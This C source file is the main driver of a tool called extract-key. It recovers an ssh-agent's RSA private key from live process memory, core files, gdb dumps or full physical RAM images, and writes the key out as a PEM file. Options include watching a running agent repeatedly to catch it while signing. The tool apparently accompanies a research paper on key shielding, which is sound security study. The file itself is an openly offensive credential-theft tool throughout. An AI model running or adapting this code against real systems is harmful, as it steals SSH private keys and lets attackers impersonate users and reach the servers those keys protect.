// SPDX-License-Identifier: GPL-2.0-only
/*
 * extract-key: finds an ssh-agent's RSA private key in what an attacker got
 * hold of. See usage() below.
 */
#include <getopt.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "image.h"
#include "key.h"
#include "needle.h"
#include "noise.h"
#include "primes.h"
#include "ram.h"
#include "shield.h"
#include "watch.h"

enum { FOUND = 0, NOT_FOUND = 1, TROUBLE = 2 };

/* A live process may sign while it is read: then look again. */
#define TRIES		3
#define NO_LIMIT	((size_t)1 << 32)
/* What is looked at when every millisecond counts: heaps fill from their start */
#define WATCH_LIMIT	((size_t)2 << 20)
#define LOOKS_MIN	15
#define ROW_BYTES	16
#define ROWS		8

struct options {
	enum { NONE, MEM, READV, CORE, DUMPS, RAM, WATCH } kind;
	const char *from, *public, *reference, *out, *figure, *gdb, *by, *save;
	double seconds;
	bool brief;
};

struct result {
	struct loot loot;
	bool found;
	const char *word;	/* leak, ciphertext, refused, nothing */
	char detail[1024];
	uint8_t seen[ROW_BYTES * ROWS];	/* for the figure, when nothing is found */
	uint64_t seen_va;
};

static const char usage_text[] =
"usage: extract-key SOURCE --public FILE [OPTION...]\n"
"SOURCE is one of\n"
"  --mem PID       a live process, through /proc/PID/mem\n"
"  --readv PID     a live process, through process_vm_readv()\n"
"  --watch PID     a live process, again and again: catches it while it signs\n"
"  --core FILE     a core file, from gcore or from the kernel\n"
"  --raw FILE      list of what gdb's `dump memory` wrote: lines START END FILE\n"
"  --ram FILE      the whole physical memory of the machine (up to 2 GiB)\n"
"  --public FILE   the key's public half, as `ssh-add -L` prints it\n"
"  --out FILE      write the private key there (PEM)\n"
"  --needle FILE   the true private key (PEM): count the pieces that lie bare,\n"
"                  and print what was found beside it\n"
"  --figure FILE   write that comparison there\n"
"  --gdb FILE      write gdb commands there that show where it was found\n"
"  --seconds S     how long to watch (10)\n"
"  --save FILE     (--mem, --readv) write what was read there, as a core file\n"
"  --by METHOD     search in one manner only: struct (OpenSSH's struct sshkey leads\n"
"                  to the shielded key), primes (in the clear), noise (anything\n"
"                  random may be the prekey)\n"
"  --brief         print one line: leak, ciphertext, refused or nothing, a tab,\n"
"                  and what was seen\n"
"exit status: 0 key (or pieces of it) found, 1 not found, 2 error\n";

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static void say(struct result *r, const char *format, ...)
{
	size_t len = strlen(r->detail);
	va_list args;

	va_start(args, format);
	vsnprintf(r->detail + len, sizeof(r->detail) - len, format, args);
	va_end(args);
}

static bool wanted(const struct options *o, const char *method)
{
	return !o->by || !strcmp(o->by, method);
}

static bool search_image(const struct options *o, const struct image *image,
			 const struct target *t, struct loot *l)
{
	return (wanted(o, "struct") && shield_by_struct(image, t, l)) ||
	       (wanted(o, "primes") && primes_search(image, t, false, l)) ||
	       (wanted(o, "noise") && shield_by_noise(image, t, l));
}

/* For want of a key: what there was to see */
static void describe(const struct image *image, struct result *r)
{
	const struct segment *most;
	size_t noise = image_noise(image, &most), bytes = image_bytes(image);
	size_t refused = image_refused(image);

	say(r, "%.1f MB read, %.1f MB of it random", bytes / 1e6, noise / 1e6);
	if (refused)
		say(r, ", %.1f MB refused (%s)", refused / 1e6, strerror(image->refusal));
	r->word = noise > bytes / 4 ? "ciphertext" : refused ? "refused" : "nothing";
	if (!most)
		return;
	memcpy(r->seen, most->data, sizeof(r->seen));
	r->seen_va = most->va;
}

static void scan_needles(struct needles *needles, const struct image *image)
{
	for (size_t i = 0; needles && i < image->count; i++)
		needles_scan(needles, image->segments[i].data, image->segments[i].size,
			     image->segments[i].va);
}

static bool take_image(const struct options *o, struct image *image)
{
	switch (o->kind) {
	case MEM:
		return image_of_process(image, atoi(o->from), IMAGE_MEM, NO_LIMIT);
	case READV:
		return image_of_process(image, atoi(o->from), IMAGE_READV, NO_LIMIT);
	case CORE:
		return image_of_core(image, o->from);
	default:
		return image_of_dumps(image, o->from);
	}
}

static int from_image(const struct options *o, const struct target *t,
		      struct needles *needles, struct result *r)
{
	int tries = o->kind == MEM || o->kind == READV ? TRIES : 1;
	struct image image;

	while (tries--) {
		if (!take_image(o, &image)) {
			image_free(&image);
			return TROUBLE;
		}
		r->found = search_image(o, &image, t, &r->loot);
		*r->detail = 0;
		if (!r->found)
			describe(&image, r);
		/* To look again helps against an agent that signs, not against noise. */
		if (r->found || strcmp(r->word, "nothing"))
			tries = 0;
		if (!tries)
			scan_needles(needles, &image);
		if (!tries && o->save && !image_save(&image, o->save)) {
			perror(o->save);
			exit(TROUBLE);
		}
		image_free(&image);
	}
	return r->found ? FOUND : NOT_FOUND;
}

static int from_watch(const struct options *o, const struct target *t,
		      struct needles *needles, struct result *r)
{
	double start = now();
	size_t looks = 0, failed = 0;
	bool last = false;

	while (!last) {
		enum watch_how how = looks % WATCH_WAYS;
		const struct timespec pause = { 0, 1000000 * (looks * 7 % 23) };
		struct image image;

		looks++;
		last = looks >= LOOKS_MIN && now() - start >= o->seconds;
		if (!watch_look(&image, atoi(o->from), how, WATCH_LIMIT)) {
			image_free(&image);
			failed++;
			continue;
		}
		/* Bare primes: what the shield hides is found by other means. */
		r->found = primes_search(&image, t, true, &r->loot);
		scan_needles(needles, &image);
		if (last && !r->found) {
			say(r, "looked %zu times in %.0f s, %zu failed; the last time ", looks,
			    now() - start, failed);
			describe(&image, r);
		}
		image_free(&image);
		if (r->found) {
			char how_found[sizeof(r->loot.how)];

			memcpy(how_found, r->loot.how, sizeof(how_found));
			snprintf(r->loot.how, sizeof(r->loot.how), "%.150s (look %zu, %s)",
				 how_found, looks, watch_names[how]);
			return FOUND;
		}
		nanosleep(&pause, NULL);	/* not in step with it */
	}
	return failed < looks ? NOT_FOUND : TROUBLE;
}

typedef bool (*search_fn)(const struct image *image, const struct target *t,
			  struct loot *l);

static bool search_processes(const struct ram *ram, const struct target *t,
			     search_fn search, struct loot *l, size_t *count)
{
	bool found = false;

	*count = 0;
	for (size_t pa = ram_next_table(ram, 0); pa < ram->size && !found;
	     pa = ram_next_table(ram, pa + PAGE)) {
		for (int levels = 4; levels <= 5 && !found; levels++) {
			char how[sizeof(l->how)];
			struct image image;

			if (ram_process(ram, pa, levels, &image)) {
				*count += 1;
				found = search(&image, t, l);
			}
			image_free(&image);
			if (!found)
				continue;
			memcpy(how, l->how, sizeof(how));
			snprintf(l->how, sizeof(l->how), "page table at 0x%zx: %.180s", pa, how);
		}
	}
	return found;
}

static int from_ram(const struct options *o, const struct target *t,
		    struct needles *needles, struct result *r)
{
	struct ram ram;
	size_t processes = 0;

	if (!ram_open(&ram, o->from))
		return TROUBLE;
	r->found = (wanted(o, "struct") &&
		    search_processes(&ram, t, shield_by_struct, &r->loot, &processes)) ||
		   (wanted(o, "noise") &&
		    search_processes(&ram, t, shield_by_noise, &r->loot, &processes)) ||
		   (wanted(o, "primes") &&
		    primes_search_flat(ram.data, ram.size, t, &r->loot));
	for (size_t at = 0, end; needles && data_next(ram.data, ram.size, &at, &end); at = end)
		needles_scan(needles, ram.data + at, end - at, at);
	if (r->found)
		return FOUND;
	say(r, "%.0f MB, %zu address spaces", ram.size / 1e6, processes);
	r->word = "nothing";
	return NOT_FOUND;
}

static void figure_row(FILE *f, const uint8_t *left, const uint8_t *right, uint64_t at)
{
	fprintf(f, "  %03" PRIx64 "  ", at);
	for (int i = 0; i < ROW_BYTES; i++)
		fprintf(f, "%02x ", left[i]);
	fputs(right ? " " : "", f);
	for (int i = 0; right && i < ROW_BYTES; i++)
		fprintf(f, " %02x", right[i]);
	fputc('\n', f);
}

/* The paper's figures 4 and 5: what the debugger saw, beside the key file */
static void write_figure(FILE *f, const struct result *r, const struct loot *reference,
			 const struct target *t)
{
	uint8_t seen[2048] = { 0 }, truth[2048] = { 0 };
	size_t bytes = 2 * t->prime_bytes;

	if (r->found)
		BN_bn2binpad(r->loot.d, seen, bytes);
	else
		memcpy(seen, r->seen, sizeof(r->seen));
	if (reference)
		BN_bn2binpad(reference->d, truth, bytes);
	if (r->found)
		fprintf(f, "  %s\n", r->loot.how);
	fprintf(f, "  %-53s %s\n", r->found ? "private exponent, from the agent's memory" :
		"what the agent's memory shows", reference ? "private exponent, in the key file" : "");
	for (size_t at = 0; at < sizeof(r->seen); at += ROW_BYTES)
		figure_row(f, seen + at, reference ? truth + at : NULL, at);
	if (!reference)
		return;
	if (r->found && !memcmp(seen, truth, bytes))
		fprintf(f, "  ... and so on: all %zu bytes are the same\n", bytes);
	else
		fputs("  ... not the same\n", f);
}

static void gdb_examine(FILE *f, uint64_t va, const char *what)
{
	if (va)
		fprintf(f, "echo (gdb) x/32xb 0x%" PRIx64 "    # %s\\n\nx/32xb 0x%" PRIx64 "\n", va,
			what, va);
}

static void write_gdb(FILE *f, const struct result *r)
{
	gdb_examine(f, r->loot.prekey_va, "what the key is shielded with");
	gdb_examine(f, r->loot.blob_va, "the shielded key");
	gdb_examine(f, r->seen_va, "where most of the random bytes are");
}

static FILE *create(const char *path)
{
	FILE *f = fopen(path, "w");

	if (!f) {
		perror(path);
		exit(TROUBLE);
	}
	return f;
}

static int report(const struct options *o, const struct target *t,
		  const struct loot *reference, const struct needles *needles,
		  struct result *r, int status)
{
	char pieces[256] = "";

	if (needles)
		needles_describe(needles, pieces, sizeof(pieces));
	if (r->found) {
		const char *doubt = loot_doubt(&r->loot, t);

		if (doubt) {
			fprintf(stderr, "extract-key: error: %s\n", doubt);
			return TROUBLE;
		}
		r->word = "leak";
		say(r, "%s", r->loot.how);
		if (o->out && !loot_write(&r->loot, t, o->out)) {
			fprintf(stderr, "extract-key: error: cannot write %s\n", o->out);
			return TROUBLE;
		}
	} else if (needles && needles_total(needles)) {
		r->word = "leak";
		status = FOUND;
	}
	if (*pieces)
		say(r, "; %s", pieces);
	if (o->figure) {
		FILE *f = create(o->figure);

		write_figure(f, r, reference, t);
		fclose(f);
	}
	if (o->gdb) {
		FILE *f = create(o->gdb);

		write_gdb(f, r);
		fclose(f);
	}
	if (o->brief) {
		printf("%s\t%s\n", r->word, r->detail);
		return status;
	}
	printf("%s: %s\n", r->word, r->detail);
	if (r->found) {
		loot_print(&r->loot, t);
		puts("checked: p * q = n, d * e = 1 mod lcm(p - 1, q - 1), its signature verifies");
		write_figure(stdout, r, reference, t);
	}
	return status;
}

static int usage(const char *problem)
{
	fprintf(stderr, "extract-key: error: %s\n%s", problem, usage_text);
	return TROUBLE;
}

static bool parse(struct options *o, int argc, char **argv)
{
	static const struct option longs[] = {
		{ "mem", 1, NULL, MEM },     { "readv", 1, NULL, READV },
		{ "core", 1, NULL, CORE },   { "raw", 1, NULL, DUMPS },
		{ "ram", 1, NULL, RAM },     { "watch", 1, NULL, WATCH },
		{ "public", 1, NULL, 'p' },  { "out", 1, NULL, 'o' },
		{ "needle", 1, NULL, 'n' },  { "figure", 1, NULL, 'f' },
		{ "gdb", 1, NULL, 'g' },     { "seconds", 1, NULL, 's' },
		{ "save", 1, NULL, 'S' },    { "by", 1, NULL, 'y' },
		{ "brief", 0, NULL, 'b' },   { NULL, 0, NULL, 0 },
	};
	int c;

	while ((c = getopt_long(argc, argv, "", longs, NULL)) != -1) {
		switch (c) {
		case MEM: case READV: case CORE: case DUMPS: case RAM: case WATCH:
			o->kind = c;
			o->from = optarg;
			break;
		case 'p': o->public = optarg; break;
		case 'o': o->out = optarg; break;
		case 'n': o->reference = optarg; break;
		case 'f': o->figure = optarg; break;
		case 'g': o->gdb = optarg; break;
		case 's': o->seconds = atof(optarg); break;
		case 'S': o->save = optarg; break;
		case 'y': o->by = optarg; break;
		case 'b': o->brief = true; break;
		default: return false;
		}
	}
	return o->kind != NONE && o->public && optind == argc;
}

int main(int argc, char **argv)
{
	struct options o = { .seconds = 10 };
	struct loot reference = { 0 };
	struct needles needles, *look_for = NULL;
	struct result r = { .word = "nothing" };
	struct target t;
	int status;

	if (argc == 2 && !strcmp(argv[1], "--help"))
		return fputs(usage_text, stdout) < 0;
	if (!parse(&o, argc, argv))
		return usage("wrong arguments");
	if (!target_load(&t, o.public))
		return usage("--public: not an RSA public key");
	if (o.reference) {
		if (!reference_load(&reference, &t, o.reference) ||
		    !needles_make(&needles, &reference, &t))
			return usage("--needle: not the private key of --public");
		look_for = &needles;
	}
	status = o.kind == RAM ? from_ram(&o, &t, look_for, &r) :
		 o.kind == WATCH ? from_watch(&o, &t, look_for, &r) :
				   from_image(&o, &t, look_for, &r);
	if (status == TROUBLE) {
		fprintf(stderr, "extract-key: error: cannot read %s\n", o.from);
		return TROUBLE;
	}
	return report(&o, &t, o.reference ? &reference : NULL, look_for, &r, status);
}
